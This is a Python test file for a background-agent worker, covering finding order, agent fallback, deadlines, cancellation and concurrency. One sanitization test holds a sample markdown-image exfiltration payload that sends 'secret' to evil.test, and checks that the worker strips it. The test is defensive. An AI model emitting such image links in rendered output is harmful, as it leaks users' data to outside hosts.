"""The worker: whatever agents do, the session gets an answer or one failure."""

from collections.abc import AsyncIterator, Sequence
from contextlib import suppress

import anyio
import pytest

from tests.background_agents.packages import package
from weft.background_agents.queues.memory import MemoryQueue
from weft.background_agents.types import (
    AgentUpdate,
    BackgroundAgent,
    ContextPackage,
    Finding,
    UpdateKind,
)
from weft.background_agents.worker import Worker
from weft.clock import VirtualClock, sleep_s
from weft.errors import AgentError
from weft.tools.components import Card

pytestmark = pytest.mark.anyio

RESULT, COMMENTARY = UpdateKind.RESULT, UpdateKind.COMMENTARY
THINKING, FAILURE = UpdateKind.THINKING, UpdateKind.FAILURE


class ScriptedAgent:
    """Plays a script: findings are yielded, numbers are seconds to wait, errors are raised."""

    def __init__(self, clock: VirtualClock, *script: Finding | float | Exception) -> None:
        self.name = "scripted"
        self.asked: list[str] = []
        self.running = 0
        self.most_running = 0
        self.stopped = 0
        self._clock = clock
        self._script = script

    async def start(self) -> None:
        """Nothing to warm up."""

    async def answer(self, package: ContextPackage) -> AsyncIterator[Finding]:
        self.asked.append(package.request)
        self.running += 1
        self.most_running = max(self.most_running, self.running)
        try:
            for entry in self._script:
                match entry:
                    case Exception():
                        raise entry
                    case Finding():
                        yield entry
                    case _:
                        await sleep_s(self._clock, entry)
        except anyio.get_cancelled_exc_class():
            self.stopped += 1
            raise
        finally:
            self.running -= 1


def says(text: str, kind: UpdateKind = RESULT) -> Finding:
    return Finding(kind=kind, text=text)


async def worked(
    clock: VirtualClock,
    agents: Sequence[BackgroundAgent],
    *packages: ContextPackage,
    until_s: float = 100.0,
    concurrency: int = 4,
) -> list[AgentUpdate]:
    """Let a worker work on packages and give everything their session was sent."""
    queue = MemoryQueue(clock)
    updates: list[AgentUpdate] = []
    for each in packages or (package(),):
        queue.submit_nowait(each)
    async with anyio.create_task_group() as tasks:
        tasks.start_soon(Worker(queue, agents, clock, concurrency).run)
        await clock.advance_to_s(until_s)
        updates = queue.updates_nowait("s")
        tasks.cancel_scope.cancel()
    return updates


def told(updates: Sequence[AgentUpdate]) -> list[tuple[UpdateKind, str]]:
    return [(u.kind, u.text) for u in updates if u.text]


async def test_findings_are_published_in_order_and_the_last_update_is_marked() -> None:
    clock = VirtualClock()
    agent = ScriptedAgent(
        clock, says("hm", THINKING), 1.0, says("soon", COMMENTARY), says("Paris.")
    )
    updates = await worked(clock, [agent])
    assert told(updates) == [(THINKING, "hm"), (COMMENTARY, "soon"), (RESULT, "Paris.")]
    assert [u.sequence for u in updates] == list(range(len(updates)))
    assert [u.final for u in updates] == [False, False, False, True]
    assert updates[2].published_s == 1.0


async def test_what_is_shown_travels_with_its_finding() -> None:
    clock = VirtualClock()
    card = Card(title="Paris", text="It is the capital.")
    shows = Finding(kind=RESULT, text="I have put a card on your screen.", components=(card,))
    updates = await worked(clock, [ScriptedAgent(clock, says("hm", THINKING), shows)])
    assert [update.components for update in updates] == [(), (card,), ()]
    assert [AgentUpdate.model_validate_json(u.model_dump_json()) for u in updates] == updates


async def test_that_words_are_a_strangers_travels_with_them() -> None:
    clock = VirtualClock()
    script = says("hm", THINKING), Finding(kind=RESULT, text="Tin is cheap.", tainted=True)
    updates = await worked(clock, [ScriptedAgent(clock, *script)])
    assert [update.tainted for update in updates] == [False, True, False]


async def test_no_image_is_in_what_is_to_be_shown() -> None:
    clock = VirtualClock()
    detail = "See [it](https://a.test). ![x](https://evil.test/?q=secret)<img src=//evil.test>"
    finding = Finding(kind=RESULT, text="Paris.", detail=detail)
    updates = await worked(clock, [ScriptedAgent(clock, finding)])
    assert updates[0].detail == "See [it](https://a.test). x‹img src=//evil.test>"


async def test_the_next_agent_answers_when_one_cannot() -> None:
    clock = VirtualClock()
    broken = ScriptedAgent(clock, says("well", COMMENTARY), AgentError("no connection"))
    updates = await worked(clock, [broken, ScriptedAgent(clock, says("Paris."))])
    assert told(updates) == [(COMMENTARY, "well"), (RESULT, "Paris.")]


async def test_an_agent_that_does_not_know_makes_room_for_the_next() -> None:
    clock = VirtualClock()
    modest = ScriptedAgent(clock, says("nothing fits", FAILURE))
    assert told(await worked(clock, [modest, ScriptedAgent(clock, says("Paris."))])) == [
        (RESULT, "Paris.")
    ]


async def test_when_all_agents_fail_there_is_one_failure() -> None:
    clock = VirtualClock()
    agents = [
        ScriptedAgent(clock, AgentError("no connection")),
        ScriptedAgent(clock, says("nothing fits", FAILURE)),
        ScriptedAgent(clock),
        ScriptedAgent(clock, RuntimeError("a fault")),
    ]
    [failure] = await worked(clock, agents)
    assert (failure.kind, failure.final) == (FAILURE, True)
    for reason in ("no connection", "nothing fits", "gave no answer", "RuntimeError"):
        assert reason in failure.text


async def test_a_result_that_was_said_is_not_answered_again() -> None:
    clock = VirtualClock()
    second = ScriptedAgent(clock, says("Lyon."))
    updates = await worked(
        clock, [ScriptedAgent(clock, says("Paris."), AgentError("gone")), second]
    )
    assert told(updates) == [(RESULT, "Paris.")]
    assert updates[-1].final
    assert second.asked == []


async def test_a_timer_that_breaks_after_a_beat_says_so() -> None:
    clock = VirtualClock()
    set_ = Finding(kind=THINKING, text="repeat is running", sources=("timer",))
    agent = ScriptedAgent(clock, set_, says("breathe"), AgentError("the clock broke"))
    updates = await worked(clock, [agent])
    assert told(updates)[1:] == [(RESULT, "breathe"), (FAILURE, "scripted: the clock broke")]
    assert updates[-1].final


async def test_work_without_an_answer_ends_at_the_deadline() -> None:
    clock = VirtualClock()
    agent = ScriptedAgent(clock, 50.0, says("Paris."))
    updates = await worked(clock, [agent], package(deadline_s=5.0))
    assert [(u.kind, u.published_s, u.final) for u in updates] == [(FAILURE, 5.0, True)]
    assert agent.stopped == 1


async def test_a_timer_goes_on_beyond_the_deadline() -> None:
    clock = VirtualClock()
    agent = ScriptedAgent(
        clock, says("set", THINKING), 40.0, says("breathe"), 40.0, says("breathe")
    )
    updates = await worked(clock, [agent], package(deadline_s=5.0))
    assert [u.published_s for u in updates if u.kind is RESULT] == [40.0, 80.0]


async def test_cancelled_work_stops_and_the_worker_goes_on() -> None:
    clock = VirtualClock()
    agent = ScriptedAgent(clock, 3.0, says("done"))
    queue = MemoryQueue(clock)
    queue.submit_nowait(package("first", delegation_id="s.1"))
    queue.submit_nowait(package("second", delegation_id="s.2"))
    async with anyio.create_task_group() as tasks:
        tasks.start_soon(Worker(queue, [agent], clock, 1).run)
        await clock.advance_to_s(1.0)
        queue.cancel_nowait("s.1")
        await clock.advance_to_s(10.0)
        updates = queue.updates_nowait("s")
        tasks.cancel_scope.cancel()
    assert {u.delegation_id for u in updates} == {"s.2"}
    assert agent.stopped == 1


async def test_a_correction_replaces_the_running_work() -> None:
    clock = VirtualClock()
    agent = ScriptedAgent(clock, 3.0, says("done"))
    queue = MemoryQueue(clock)
    queue.submit_nowait(package("France"))
    async with anyio.create_task_group() as tasks:
        tasks.start_soon(Worker(queue, [agent], clock, 1).run)
        await clock.advance_to_s(1.0)
        queue.submit_nowait(package("France. No, Italy", revision=1))
        await clock.advance_to_s(10.0)
        updates = queue.updates_nowait("s")
        tasks.cancel_scope.cancel()
    assert {u.revision for u in updates} == {1}
    assert agent.asked == ["France", "France. No, Italy"]


async def test_no_more_than_the_agreed_number_run_at_once() -> None:
    clock = VirtualClock()
    agent = ScriptedAgent(clock, 1.0, says("done"))
    packages = [package(delegation_id=f"s.{n}", deadline_s=99) for n in range(6)]
    updates = await worked(clock, [agent], *packages, concurrency=2)
    assert agent.most_running == 2
    assert sum(u.kind is RESULT for u in updates) == 6


class ClosingAgent(ScriptedAgent):
    """An agent with something to close."""

    closed = False

    async def aclose(self) -> None:
        self.closed = True


async def test_agents_are_closed_when_the_worker_ends() -> None:
    clock = VirtualClock()
    agent = ClosingAgent(clock, says("done"))
    await worked(clock, [agent])
    assert agent.closed


async def test_an_agent_that_cannot_start_does_not_keep_the_others_from_starting() -> None:
    clock = VirtualClock()

    class Unready(ScriptedAgent):
        async def start(self) -> None:
            raise AgentError("no model")

    class Ready(ScriptedAgent):
        started = False

        async def start(self) -> None:
            self.started = True

    ready = Ready(clock)
    with suppress(AgentError):
        await Worker(MemoryQueue(clock), [Unready(clock), ready], clock).start()
    assert ready.started
